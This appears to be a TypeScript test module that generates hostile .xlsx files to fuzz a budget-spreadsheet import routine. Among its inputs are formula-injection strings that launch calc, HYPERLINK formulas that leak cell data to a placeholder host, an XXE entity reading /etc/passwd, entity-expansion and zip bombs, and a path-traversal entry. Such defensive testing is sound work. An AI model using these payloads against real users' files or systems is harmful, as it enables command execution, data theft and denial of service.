/**
 * Hostile workbooks for the province import (issue 10, item 3): malformed or adversarial .xlsx files built in
 * memory, deterministically from a seed. Each starts from the Tràng Định 2024 assignment (the committed fixture or
 * the generator) and breaks one thing: a fuzzed cell type, a huge string, a huge or overlapping merge, formula
 * injection text, formulas without values, a zip bomb, DTD/entity tricks, a wrong encoding, a truncated zip, a
 * wrong or missing part, odd sheet XML, odd semantics (two programs in one name, negative or overflowing amounts).
 *
 * exceljs writes the cell-level cases; jszip rewrites parts for the XML-level ones; a small hand-written zip writer
 * makes the container-level ones (lying sizes, bombs, bad CRCs), which no zip library would produce.
 *
 * `exerciseHostileFile` runs one file through `import.analyze` and, when it says it can, `import.commit`, and
 * returns what went wrong (an INTERNAL error, an exception, a hang, a message naming neither the file nor a cell,
 * a write from a refused file). The unit test asserts on it; the bench counts the files.
 */
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { constants, crc32, deflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import type { ImportPreview } from '../../shared/api/import';
import type { Result } from '../../shared/api/result';
import { encodeLegacy } from '../../electron/core/excel/legacy-vietnamese';
import type { Core } from '../../electron/core/core';
import { provinceWorkbook, TRANG_DINH_2024, type TableRow } from '../fixtures/excel/province-workbooks';

export interface HostileFile {
  /** The file name given to the import (messages must name it). */
  name: string;
  /** What is wrong with the file. */
  what: string;
  /** 'refused': the import must not write it. 'either': a legitimate file may be imported, or refused with a reason. */
  expect: 'refused' | 'either';
  build(): Promise<Buffer>;
}

const FIXTURE = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../fixtures/excel/tinh-giao-von-2024.xlsx');
/** Rows of the fixture: 8 is TỔNG SỐ, these hold detail amounts in D..G (triệu đồng); C is a SUM formula. */
const DETAIL_ROWS = [11, 12, 15, 16, 19, 20, 21, 23, 24];
const TABLE_COLUMNS = ['A', 'B', 'C', 'D', 'E', 'F', 'G'];
const MIB = 1024 * 1024;

let baseBytes: Buffer | null = null;
const base = () => (baseBytes ??= fs.readFileSync(FIXTURE));

/** A small deterministic generator (mulberry32): the same seed gives the same corpus. */
function random(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// -------------------------------------------------------------------------------------------------------------
// Builders

/** The fixture with cells changed through exceljs. */
async function loadBase(): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  // exceljs types its own Buffer; a Node Buffer is what it reads.
  await book.xlsx.load(base() as unknown as ExcelJS.Buffer);
  return book;
}

async function editCells(edit: (sheet: ExcelJS.Worksheet, book: ExcelJS.Workbook) => void): Promise<Buffer> {
  const book = await loadBase();
  edit(book.worksheets[0]!, book);
  return Buffer.from(await book.xlsx.writeBuffer());
}

type PartEdit = (parts: Map<string, Buffer>) => void;

async function partsOf(bytes: Buffer): Promise<Map<string, Buffer>> {
  const zip = await JSZip.loadAsync(bytes);
  const parts = new Map<string, Buffer>();
  for (const [name, file] of Object.entries(zip.files)) if (!file.dir) parts.set(name, await file.async('nodebuffer'));
  return parts;
}

/** The fixture's parts rewritten, zipped again by jszip (a well-formed container with odd content). */
async function editParts(edit: PartEdit, from: Buffer = base()): Promise<Buffer> {
  const parts = await partsOf(from);
  edit(parts);
  const zip = new JSZip();
  for (const [name, data] of parts) zip.file(name, data);
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}

const SHEET = 'xl/worksheets/sheet1.xml';
const STRINGS = 'xl/sharedStrings.xml';
const text = (parts: Map<string, Buffer>, name: string) => parts.get(name)?.toString('utf8') ?? '';
const setText = (parts: Map<string, Buffer>, name: string, xml: string) => parts.set(name, Buffer.from(xml, 'utf8'));
const editXml = (name: string, change: (xml: string) => string): PartEdit => (parts) => setText(parts, name, change(text(parts, name)));

/** Replaces the XML of cell `ref` (written `<c r="D11" …/>` or `<c r="D11" …>…</c>`) in a sheet. */
function replaceCell(xml: string, ref: string, cell: string): string {
  const pattern = new RegExp(`<c r="${ref}"(?:[^>]*?/>|[^>]*>[\\s\\S]*?</c>)`);
  if (!pattern.test(xml)) throw new Error(`corpus: no cell ${ref}`);
  return xml.replace(pattern, cell);
}

interface RawEntry {
  name: string;
  data: Buffer;
  /** Stored (0) or deflated (8, the default). */
  method?: number;
  /** Bytes to store instead of deflating `data` (a bomb's pre-built stream, a damaged stream). */
  compressed?: Buffer;
  declaredSize?: number;
  declaredCrc?: number;
  flags?: number;
}

/** A zip written by hand: sizes, CRCs, methods and flags are whatever the case needs, true or not. */
function rawZip(entries: RawEntry[]): Buffer {
  const chunks: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const method = entry.method ?? 8;
    const body = entry.compressed ?? (method === 8 ? deflateRawSync(entry.data) : entry.data);
    const name = Buffer.from(entry.name, 'utf8');
    const crc = entry.declaredCrc ?? crc32(entry.data);
    const size = entry.declaredSize ?? entry.data.length;
    const flags = entry.flags ?? 0x0800;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const record = Buffer.alloc(46);
    record.writeUInt32LE(0x02014b50, 0);
    record.writeUInt16LE(20, 4);
    record.writeUInt16LE(20, 6);
    record.writeUInt16LE(flags, 8);
    record.writeUInt16LE(method, 10);
    record.writeUInt32LE(crc, 16);
    record.writeUInt32LE(body.length, 20);
    record.writeUInt32LE(size, 24);
    record.writeUInt16LE(name.length, 28);
    record.writeUInt32LE(offset, 42);
    chunks.push(local, name, body);
    central.push(record, name);
    offset += local.length + name.length + body.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...chunks, directory, end]);
}

/** The fixture's parts as raw entries, with `change` applied to the list. */
async function rawFromBase(change: (entries: RawEntry[]) => RawEntry[]): Promise<Buffer> {
  const parts = await partsOf(base());
  return rawZip(change([...parts].map(([name, data]) => ({ name, data }))));
}

/**
 * A deflate stream that inflates to `piece` repeated `times` times while storing it once per repeat: a block
 * ending in a full flush references nothing before it, so the same bytes can follow themselves; an empty final
 * block closes the stream. 1 MB of one byte deflates to about 1 KB.
 */
function repeatedDeflate(piece: Buffer, times: number): Buffer {
  const block = deflateRawSync(piece, { finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([...Array.from({ length: times }, () => block), deflateRawSync(Buffer.alloc(0))]);
}

// -------------------------------------------------------------------------------------------------------------
// Cases

/** Values no amount, name or STT cell should hold, as exceljs writes them. */
const WEIRD_VALUES: { label: string; value: ExcelJS.CellValue }[] = [
  { label: 'true', value: true },
  { label: 'false', value: false },
  { label: '#REF!', value: { error: '#REF!' } },
  { label: '#DIV/0!', value: { error: '#DIV/0!' } },
  { label: '#N/A', value: { error: '#N/A' } },
  { label: '#VALUE!', value: { error: '#VALUE!' } },
  { label: 'a date', value: new Date(Date.UTC(2024, 1, 29)) },
  { label: 'the year 1900 date', value: new Date(Date.UTC(1900, 0, 1)) },
  { label: '"NaN"', value: 'NaN' },
  { label: '"Infinity"', value: 'Infinity' },
  { label: '"-Infinity"', value: '-Infinity' },
  { label: '"1e308"', value: '1e308' },
  { label: '1e308', value: 1e308 },
  { label: '-1e308', value: -1e308 },
  { label: '5e-324', value: 5e-324 },
  { label: '-0', value: -0 },
  { label: '0.1+0.2', value: 0.1 + 0.2 },
  { label: '10^15 triệu', value: 1e15 },
  { label: '"1.000.000.000.000.000"', value: '1.000.000.000.000.000' },
  { label: 'MAX_SAFE_INTEGER', value: Number.MAX_SAFE_INTEGER },
  { label: 'a negative amount', value: -500 },
  { label: '"(100)"', value: '(100)' },
  { label: '"100-"', value: '100-' },
  { label: '"−250" (minus sign)', value: '−250' },
  { label: '"1 000" (no-break space)', value: '1\u00a0000' },
  { label: 'full-width digits', value: '１２３' },
  { label: 'Arabic-Indic digits', value: '١٢٣' },
  { label: '"12,5,3"', value: '12,5,3' },
  { label: '"0x10"', value: '0x10' },
  { label: '"1e5"', value: '1e5' },
  { label: 'a control character', value: 'A\u0000B\u0007' },
  { label: 'spaces only', value: '   ' },
  { label: 'a lone surrogate', value: 'x\ud800y' },
  { label: 'emoji', value: '💰💰' },
  { label: 'a 12-decimal amount', value: 1.123456789012 },
  { label: 'formula text', value: '=1+1' },
  { label: 'a formula without a value', value: { formula: 'D12*2' } as ExcelJS.CellFormulaValue },
  { label: 'a formula with a text result', value: { formula: 'D12&"x"', result: 'abc' } as ExcelJS.CellFormulaValue },
  { label: 'a formula with a boolean result', value: { formula: 'D12>0', result: true } as ExcelJS.CellFormulaValue },
  { label: 'a formula with an error result', value: { formula: '1/0', result: { error: '#DIV/0!' } } as ExcelJS.CellFormulaValue },
  { label: 'a self-referencing formula', value: { formula: 'D11+1', result: 7 } as ExcelJS.CellFormulaValue },
  { label: 'rich text digits', value: { richText: [{ text: '1.2' }, { text: '00,5' }] } },
  { label: 'a hyperlink', value: { text: '150', hyperlink: 'https://example.invalid/' } },
  { label: 'a 5 000-character text', value: 'Số '.repeat(1700) },
];

/** Odd STT tokens: not roman, arabic, letter or dash in the usual sense. */
const WEIRD_STT = ['I.1.a', '-1', '1)', 'Ⅳ', '∞', '0', '99999999999', 'MMMCMXCIX', 'IIII', '①', 'a.b.c', '1..2', '+-', '***', 'IL', '—–-', '1.1.1.1.1.1.1.1', 'Đ', 'ZZ', '#'];

function cellFuzzCases(seed: number, count: number): HostileFile[] {
  const next = random(seed);
  const files: HostileFile[] = [];
  for (let i = 0; i < count; i++) {
    const weird = WEIRD_VALUES[i % WEIRD_VALUES.length]!;
    const row = DETAIL_ROWS[Math.floor(next() * DETAIL_ROWS.length)]!;
    // Mostly amount columns (D..G), sometimes the STT, name or total column.
    const col = next() < 0.7 ? 'DEFG'[Math.floor(next() * 4)]! : TABLE_COLUMNS[Math.floor(next() * 3)]!;
    const ref = `${col}${row}`;
    files.push({
      name: `o-${String(i).padStart(3, '0')}-${ref}.xlsx`,
      what: `ô ${ref} chứa ${weird.label}`,
      expect: 'either',
      build: () => editCells((sheet) => (sheet.getCell(ref).value = weird.value)),
    });
  }
  WEIRD_STT.forEach((stt, i) => {
    const ref = `A${DETAIL_ROWS[i % DETAIL_ROWS.length]!}`;
    files.push({ name: `stt-${i}.xlsx`, what: `STT "${stt}" ở ${ref}`, expect: 'either', build: () => editCells((sheet) => (sheet.getCell(ref).value = stt)) });
  });
  return files;
}

const INJECTIONS = [
  "=cmd|' /C calc'!A0",
  '+HYPERLINK("https://example.invalid/?leak="&A1,"Bấm vào đây")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C notepad\'!A0',
  '\t=1+1',
  '=HYPERLINK("file:///C:/Windows/System32/calc.exe")',
  '=WEBSERVICE("https://example.invalid/")',
  '=IMPORTXML(CONCAT("https://example.invalid/?v=",A1),"//a")',
];

function injectionCases(): HostileFile[] {
  const files: HostileFile[] = [];
  INJECTIONS.forEach((payload, i) => {
    files.push({ name: `chen-cong-thuc-ten-${i}.xlsx`, what: `tên dòng là "${payload}"`, expect: 'either', build: () => editCells((sheet) => (sheet.getCell('B15').value = payload)) });
    files.push({
      name: `chen-cong-thuc-tieu-de-${i}.xlsx`,
      what: `số quyết định trong tiêu đề là "${payload}"`,
      expect: 'either',
      build: () => editCells((sheet) => (sheet.getCell('A3').value = `(Kèm theo Quyết định số ${payload} ngày 15/12/2023 của UBND tỉnh Lạng Sơn) - Huyện Tràng Định`)),
    });
  });
  files.push({
    name: 'cong-thuc-that-trong-ten.xlsx',
    what: 'ô tên là một công thức thật (không có giá trị)',
    expect: 'either',
    build: () => editCells((sheet) => (sheet.getCell('B15').value = { formula: 'HYPERLINK("https://example.invalid/","x")' } as ExcelJS.CellFormulaValue)),
  });
  return files;
}

/** About `length` characters of Vietnamese words in a seeded order: big, but compressing like real text. */
function wordSoup(seed: number, length: number): string {
  const words = ['đường', 'giao', 'thông', 'thôn', 'Nà', 'Pàn', 'xã', 'Chi', 'Lăng', 'nhà', 'văn', 'hoá', 'hỗ', 'trợ', 'sản', 'xuất', 'nước', 'sinh', 'hoạt', 'trường', 'học', 'cầu', 'kè', 'suối'];
  const next = random(seed);
  const out: string[] = [];
  let size = 0;
  while (size < length) {
    const word = `${words[Math.floor(next() * words.length)]!}${Math.floor(next() * 1000)}`;
    out.push(word);
    size += word.length + 1;
  }
  return out.join(' ').slice(0, length);
}

function hugeStringCases(): HostileFile[] {
  const megabyte = wordSoup(7, MIB);
  const nextDigit = random(9);
  const digits = Array.from({ length: MIB }, () => String(Math.floor(nextDigit() * 10))).join('');
  return [
    { name: 'chuoi-1mb-ten.xlsx', what: 'tên dòng dài 1 MB', expect: 'either', build: () => editCells((sheet) => (sheet.getCell('B15').value = megabyte)) },
    { name: 'chuoi-1mb-tieu-de.xlsx', what: 'tiêu đề dài 1 MB', expect: 'either', build: () => editCells((sheet) => (sheet.getCell('A2').value = megabyte)) },
    { name: 'chuoi-1mb-so-tien.xlsx', what: 'ô số tiền là chuỗi 1 MB chữ số', expect: 'either', build: () => editCells((sheet) => (sheet.getCell('D15').value = digits)) },
    { name: 'chuoi-1mb-lap-lai.xlsx', what: 'tên dòng là 1 MB cùng một chữ (nén hơn 200:1)', expect: 'refused', build: () => editCells((sheet) => (sheet.getCell('B15').value = 'a'.repeat(MIB))) },
    { name: 'chuoi-1mb-stt.xlsx', what: 'ô STT dài 1 MB', expect: 'either', build: () => editCells((sheet) => (sheet.getCell('A15').value = `I${wordSoup(8, MIB)}`)) },
    {
      name: 'chuoi-32767-nhieu-o.xlsx',
      what: '200 ô dài 32 767 ký tự (giới hạn của Excel)',
      expect: 'either',
      build: () =>
        editCells((sheet) => {
          for (let r = 30; r < 230; r++) sheet.getCell(`H${r}`).value = wordSoup(r, 32_767);
        }),
    },
    {
      name: 'ten-trang-31-ky-tu.xlsx',
      what: "tên trang tính dài tối đa 31 ký tự, có dấu, nháy và emoji",
      expect: 'either',
      build: () => editCells((sheet) => (sheet.name = "Biểu 01 'giao' vốn—năm 2024 💰".slice(0, 31))),
    },
  ];
}

const mergeCellsXml = (refs: string[]) => `<mergeCells count="${refs.length}">${refs.map((ref) => `<mergeCell ref="${ref}"/>`).join('')}</mergeCells>`;
/** Puts merges after sheetData (replacing the fixture's own), where the schema has them. */
const withMerges = (refs: string[]): PartEdit =>
  editXml(SHEET, (xml) => xml.replace(/<mergeCells[\s\S]*?<\/mergeCells>/, '').replace('</sheetData>', `</sheetData>${mergeCellsXml(refs)}`));

function mergeCases(): HostileFile[] {
  const many = Array.from({ length: 5000 }, (_, i) => `J${i * 2 + 30}:K${i * 2 + 31}`);
  const nested = Array.from({ length: 200 }, (_, i) => `A${5 + i}:${'BCDEFG'[i % 6]}${400 - i}`);
  const cases: [string, string, string[]][] = [
    ['gop-toan-trang.xlsx', 'một vùng gộp A1:XFD1048576 (cả trang)', ['A1:XFD1048576']],
    ['gop-cot-toi-da.xlsx', 'vùng gộp cả một cột và một hàng', ['B1:B1048576', 'A9:XFD9']],
    ['gop-chong-nhau.xlsx', 'các vùng gộp chồng lên nhau ở dòng tiêu đề', ['A5:C6', 'B5:D7', 'A5:A6', 'C5:H8']],
    ['gop-5000.xlsx', '5 000 vùng gộp nhỏ', many],
    ['gop-long-nhau.xlsx', '200 vùng gộp lồng nhau phủ cả bảng', nested],
    ['gop-dia-chi-sai.xlsx', 'vùng gộp có địa chỉ A0, ZZZZ1, ngược chiều, rỗng', ['A0:B2', 'ZZZZ1:A1', 'D7:A5', '', ':', 'A1:', 'XFE1:XFE2']],
    ['gop-o-so-tien.xlsx', 'ô số tiền chi tiết nằm trong vùng gộp', ['D11:G12', 'D15:D16']],
  ];
  return cases.map(([name, what, refs]) => ({ name, what, expect: 'either', build: () => editParts(withMerges(refs)) }));
}

function formulaCases(): HostileFile[] {
  const noValues: PartEdit = editXml(SHEET, (xml) => xml.replace(/<v>[^<]*<\/v>(?=<\/c>)/g, (v, offset: number) => (xml.lastIndexOf('<f>', offset) > xml.lastIndexOf('<c ', offset) ? '' : v)));
  return [
    { name: 'cong-thuc-khong-gia-tri.xlsx', what: 'mọi công thức đều không có giá trị lưu sẵn', expect: 'refused', build: () => editParts(noValues) },
    {
      name: 'cong-thuc-vong-tron.xlsx',
      what: 'công thức tham chiếu vòng (E11 = E12, E12 = E11) có giá trị lưu sẵn',
      expect: 'either',
      build: () =>
        editParts(
          editXml(SHEET, (xml) =>
            replaceCell(replaceCell(xml, 'E11', '<c r="E11"><f>E12</f><v>500</v></c>'), 'E12', '<c r="E12"><f>E11</f><v>1200.5</v></c>'),
          ),
        ),
    },
    {
      name: 'cong-thuc-chia-se.xlsx',
      what: 'công thức dùng chung (shared) trỏ tới một ô chủ không tồn tại',
      expect: 'either',
      build: () => editParts(editXml(SHEET, (xml) => replaceCell(xml, 'D15', '<c r="D15"><f t="shared" si="99"/><v>3250</v></c>'))),
    },
    {
      name: 'cong-thuc-mang.xlsx',
      what: 'công thức mảng phủ cả cột số tiền',
      expect: 'either',
      build: () => editParts(editXml(SHEET, (xml) => replaceCell(xml, 'D15', '<c r="D15"><f t="array" ref="D15:D1048576">D11:D12*2</f><v>3250</v></c>'))),
    },
    {
      name: 'cong-thuc-gia-tri-loi.xlsx',
      what: 'ô tổng có công thức với giá trị lưu sẵn là #REF!',
      expect: 'either',
      build: () => editParts(editXml(SHEET, (xml) => replaceCell(xml, 'D8', '<c r="D8" t="e"><f>#REF!+D9</f><v>#REF!</v></c>'))),
    },
    {
      name: 'cong-thuc-rat-dai.xlsx',
      what: 'công thức dài 100 000 ký tự',
      expect: 'either',
      build: () => editParts(editXml(SHEET, (xml) => replaceCell(xml, 'D15', `<c r="D15"><f>${'D11+'.repeat(25_000)}0</f><v>3250</v></c>`))),
    },
  ];
}

function bombCases(): HostileFile[] {
  const spaces = Buffer.alloc(MIB, 0x20);
  return [
    {
      name: 'bom-nen-khai-that.xlsx',
      what: 'trang tính giải nén ra 400 MB, khai đúng kích thước',
      expect: 'refused',
      build: () => rawFromBase((entries) => entries.map((e) => (e.name === SHEET ? { ...e, compressed: repeatedDeflate(spaces, 400), declaredSize: 400 * MIB, declaredCrc: 0 } : e))),
    },
    {
      name: 'bom-nen-khai-gian.xlsx',
      what: 'trang tính khai 2 KB nhưng giải nén ra 64 MB',
      expect: 'refused',
      build: () => rawFromBase((entries) => entries.map((e) => (e.name === SHEET ? { ...e, compressed: repeatedDeflate(spaces, 64), declaredSize: 2048 } : e))),
    },
    {
      name: 'bom-nen-chuoi-chung.xlsx',
      what: 'sharedStrings.xml khai nhỏ nhưng giải nén ra 32 MB',
      expect: 'refused',
      build: () => rawFromBase((entries) => entries.map((e) => (e.name === STRINGS ? { ...e, compressed: repeatedDeflate(spaces, 32), declaredSize: e.data.length } : e))),
    },
    {
      name: 'bom-nen-nhieu-phan.xlsx',
      what: '700 phần 1 MB nén tỉ lệ thấp, tổng vượt 600 MB',
      expect: 'refused',
      build: () => rawFromBase((entries) => [...entries, ...Array.from({ length: 700 }, (_, i) => ({ name: `xl/media/image${i}.bin`, data: Buffer.alloc(0), compressed: repeatedDeflate(spaces, 1), declaredSize: MIB, declaredCrc: 0 }))]),
    },
    {
      name: 'qua-nhieu-phan.xlsx',
      what: '2 500 phần nhỏ trong tệp',
      expect: 'refused',
      build: () => rawFromBase((entries) => [...entries, ...Array.from({ length: 2500 }, (_, i) => ({ name: `customXml/item${i}.xml`, data: Buffer.from('<a/>') }))]),
    },
    {
      name: 'zip-long-zip.xlsx',
      what: 'một tệp zip lồng bên trong (xl/embeddings)',
      expect: 'either',
      build: async () => {
        const inner = rawZip([{ name: 'bomb.xml', data: Buffer.alloc(0), compressed: repeatedDeflate(spaces, 8), declaredSize: 8 * MIB, declaredCrc: 0 }]);
        return rawFromBase((entries) => [...entries, { name: 'xl/embeddings/oleObject1.bin', data: inner, method: 0 }]);
      },
    },
    {
      name: 'phan-trung-ten.xlsx',
      what: 'hai phần cùng tên xl/worksheets/sheet1.xml',
      expect: 'refused',
      build: () => rawFromBase((entries) => [...entries, { name: SHEET.toUpperCase(), data: Buffer.from('<worksheet/>') }]),
    },
    {
      name: 'ten-phan-thoat-thu-muc.xlsx',
      what: 'một phần tên "../../evil.xml"',
      expect: 'refused',
      build: () => rawFromBase((entries) => [...entries, { name: '../../evil.xml', data: Buffer.from('<a/>') }]),
    },
    {
      name: 'sai-crc.xlsx',
      what: 'mã kiểm tra CRC của trang tính sai',
      expect: 'refused',
      build: () => rawFromBase((entries) => entries.map((e) => (e.name === SHEET ? { ...e, declaredCrc: 0xdeadbeef } : e))),
    },
    {
      name: 'luong-nen-hong.xlsx',
      what: 'dữ liệu nén của trang tính bị hỏng',
      expect: 'refused',
      build: () => rawFromBase((entries) => entries.map((e) => (e.name === SHEET ? { ...e, compressed: Buffer.from('this is not deflate data at all'), declaredSize: e.data.length } : e))),
    },
    {
      name: 'kieu-nen-la.xlsx',
      what: 'trang tính nén theo kiểu bzip2 (mã 12)',
      expect: 'refused',
      build: () => rawFromBase((entries) => entries.map((e) => (e.name === SHEET ? { ...e, method: 12, compressed: deflateRawSync(e.data) } : e))),
    },
    {
      name: 'phan-ma-hoa.xlsx',
      what: 'trang tính được đánh dấu mã hoá (cờ zip)',
      expect: 'refused',
      build: () => rawFromBase((entries) => entries.map((e) => (e.name === SHEET ? { ...e, flags: 0x0801 } : e))),
    },
  ];
}

const BILLION_LAUGHS =
  '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
  Array.from({ length: 8 }, (_, i) => `<!ENTITY lol${i + 2} "${`&lol${i + 1};`.repeat(10)}">`).join('') +
  ']>';

function entityCases(): HostileFile[] {
  const withDoctype = (part: string, doctype: string, use = ''): HostileFile['build'] => () =>
    editParts(editXml(part, (xml) => xml.replace(/^<\?xml[^>]*\?>\s*/, `${doctype}\n`).replace(/<t>STT<\/t>/, `<t>STT${use}</t>`)));
  const external = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
  return [
    { name: 'billion-laughs-chuoi.xlsx', what: '"billion laughs" trong sharedStrings.xml', expect: 'refused', build: withDoctype(STRINGS, BILLION_LAUGHS, '&lol9;') },
    { name: 'billion-laughs-trang.xlsx', what: '"billion laughs" trong trang tính', expect: 'refused', build: withDoctype(SHEET, BILLION_LAUGHS) },
    { name: 'xxe-chuoi.xlsx', what: 'thực thể ngoài (XXE) đọc /etc/passwd trong sharedStrings.xml', expect: 'refused', build: withDoctype(STRINGS, external, '&xxe;') },
    { name: 'xxe-workbook.xlsx', what: 'DOCTYPE trong workbook.xml', expect: 'refused', build: withDoctype('xl/workbook.xml', external) },
    { name: 'xxe-content-types.xlsx', what: 'DOCTYPE trong [Content_Types].xml', expect: 'refused', build: withDoctype('[Content_Types].xml', external) },
    { name: 'xxe-rels.xlsx', what: 'DOCTYPE trong xl/_rels/workbook.xml.rels', expect: 'refused', build: withDoctype('xl/_rels/workbook.xml.rels', external) },
    { name: 'doctype-chu-thuong.xlsx', what: '"<! doctype" viết thường, có khoảng trắng', expect: 'refused', build: withDoctype(STRINGS, '<! doctype x [<!entity a "b">]>') },
    {
      name: 'doctype-utf16.xlsx',
      what: 'DOCTYPE trong sharedStrings.xml mã hoá UTF-16',
      expect: 'refused',
      build: () =>
        editParts((parts) => {
          const xml = text(parts, STRINGS).replace(/^<\?xml[^>]*\?>/, `<?xml version="1.0" encoding="UTF-16"?>${BILLION_LAUGHS.replace(/^<\?xml[^>]*\?>/, '')}`);
          parts.set(STRINGS, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]));
        }),
    },
    { name: 'entity-so-ky-tu.xlsx', what: 'tham chiếu ký tự &#0; &#xD800; &#x110000; trong chuỗi', expect: 'either', build: () => editParts(editXml(STRINGS, (xml) => xml.replace('<t>STT</t>', '<t>STT&#0;&#xD800;&#x110000;&#99999999999;</t>'))) },
  ];
}

function encodingCases(): HostileFile[] {
  const utf16 = (part: string, bom: boolean): HostileFile['build'] => () =>
    editParts((parts) => {
      const xml = text(parts, part).replace(/encoding="UTF-8"/, 'encoding="UTF-16"');
      parts.set(part, Buffer.concat([bom ? Buffer.from([0xff, 0xfe]) : Buffer.alloc(0), Buffer.from(xml, 'utf16le')]));
    });
  const bytesIn = (part: string, marker: string, bytes: number[]): HostileFile['build'] => () =>
    editParts((parts) => {
      const data = parts.get(part)!;
      const at = data.indexOf(marker);
      parts.set(part, Buffer.concat([data.subarray(0, at), Buffer.from(bytes), data.subarray(at)]));
    });
  const legacyNames = (encoding: 'tcvn3' | 'vni', font: string): HostileFile['build'] => () =>
    editCells((sheet) => {
      for (const row of DETAIL_ROWS) {
        const cell = sheet.getCell(`B${row}`);
        cell.value = encodeLegacy(String(cell.value), encoding);
        cell.font = { name: font, size: 12 };
      }
    });
  return [
    { name: 'trang-utf16-bom.xlsx', what: 'trang tính mã hoá UTF-16LE có BOM', expect: 'either', build: utf16(SHEET, true) },
    { name: 'chuoi-utf16-khong-bom.xlsx', what: 'sharedStrings.xml mã hoá UTF-16LE không BOM', expect: 'either', build: utf16(STRINGS, false) },
    { name: 'workbook-utf16.xlsx', what: 'workbook.xml mã hoá UTF-16LE', expect: 'either', build: utf16('xl/workbook.xml', true) },
    { name: 'utf8-sai-chuoi.xlsx', what: 'byte UTF-8 không hợp lệ (C3 28, FF) trong sharedStrings.xml', expect: 'either', build: bytesIn(STRINGS, 'Hỗ trợ đất ở', [0xc3, 0x28, 0xff, 0xfe]) },
    { name: 'utf8-qua-dai.xlsx', what: 'mã UTF-8 quá dài (C0 AF = "/") trong tên trang', expect: 'either', build: bytesIn('xl/workbook.xml', 'Biểu 01', [0xc0, 0xaf, 0xed, 0xa0, 0x80]) },
    { name: 'utf8-bom.xlsx', what: 'BOM UTF-8 trước khai báo XML của trang tính', expect: 'either', build: () => editParts((parts) => parts.set(SHEET, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), parts.get(SHEET)!]))) },
    { name: 'tcvn3-phong-unicode.xlsx', what: 'chữ TCVN3 trong phông Times New Roman (phải đoán)', expect: 'either', build: legacyNames('tcvn3', 'Times New Roman') },
    { name: 'vni-phong-arial.xlsx', what: 'chữ VNI trong phông Arial (phải đoán)', expect: 'either', build: legacyNames('vni', 'Arial') },
    {
      name: 'unicode-phong-vntime.xlsx',
      what: 'chữ Unicode trong phông .VnTime (giải mã nhầm chiều)',
      expect: 'either',
      build: () =>
        editCells((sheet) => {
          for (const row of DETAIL_ROWS) sheet.getCell(`B${row}`).font = { name: '.VnTime', size: 12 };
        }),
    },
    {
      name: 'unicode-phong-vni.xlsx',
      what: 'chữ Unicode trong phông VNI-Times, kể cả tiêu đề và đơn vị tính',
      expect: 'either',
      build: () =>
        editCells((sheet) => {
          for (let r = 1; r <= 24; r++) for (const c of TABLE_COLUMNS) sheet.getCell(`${c}${r}`).font = { name: 'VNI-Times', size: 12 };
        }),
    },
  ];
}

function truncationCases(seed: number): HostileFile[] {
  const next = random(seed);
  const cut = (label: string, at: (length: number) => number): HostileFile => ({
    name: `cat-${label}.xlsx`,
    what: `tệp bị cắt (${label})`,
    expect: 'refused',
    build: async () => base().subarray(0, at(base().length)),
  });
  const files = [
    cut('10pt', (n) => Math.floor(n * 0.1)),
    cut('50pt', (n) => Math.floor(n * 0.5)),
    cut('90pt', (n) => Math.floor(n * 0.9)),
    cut('thieu-1-byte', (n) => n - 1),
    cut('thieu-muc-luc-cuoi', (n) => n - 22),
    cut('100-byte', () => 100),
    cut('4-byte', () => 4),
  ];
  files.push({ name: 'rong-0-byte.xlsx', what: 'tệp 0 byte', expect: 'refused', build: async () => Buffer.alloc(0) });
  files.push({ name: 'thua-byte-cuoi.xlsx', what: 'rác sau mục lục cuối tệp', expect: 'refused', build: async () => Buffer.concat([base(), Buffer.from('garbage')]) });
  for (let i = 0; i < 12; i++) {
    const flips = Array.from({ length: 1 + (i % 4) }, () => next());
    files.push({
      name: `hong-bit-${i}.xlsx`,
      what: `${flips.length} byte bị đổi ngẫu nhiên`,
      expect: 'either',
      build: async () => {
        const bytes = Buffer.from(base());
        for (const at of flips) {
          const index = Math.floor(at * bytes.length);
          bytes[index] = bytes[index]! ^ 0x5a;
        }
        return bytes;
      },
    });
  }
  return files;
}

function structureCases(): HostileFile[] {
  const drop = (part: string): HostileFile['build'] => () => editParts((parts) => void parts.delete(part));
  const ct = '[Content_Types].xml';
  const rels = 'xl/_rels/workbook.xml.rels';
  const workbook = 'xl/workbook.xml';
  return [
    { name: 'thieu-content-types.xlsx', what: 'thiếu [Content_Types].xml', expect: 'refused', build: drop(ct) },
    { name: 'thieu-shared-strings.xlsx', what: 'thiếu sharedStrings.xml (ô vẫn trỏ tới chuỗi chung)', expect: 'refused', build: drop(STRINGS) },
    { name: 'thieu-styles.xlsx', what: 'thiếu styles.xml (ô vẫn có s="…")', expect: 'either', build: drop('xl/styles.xml') },
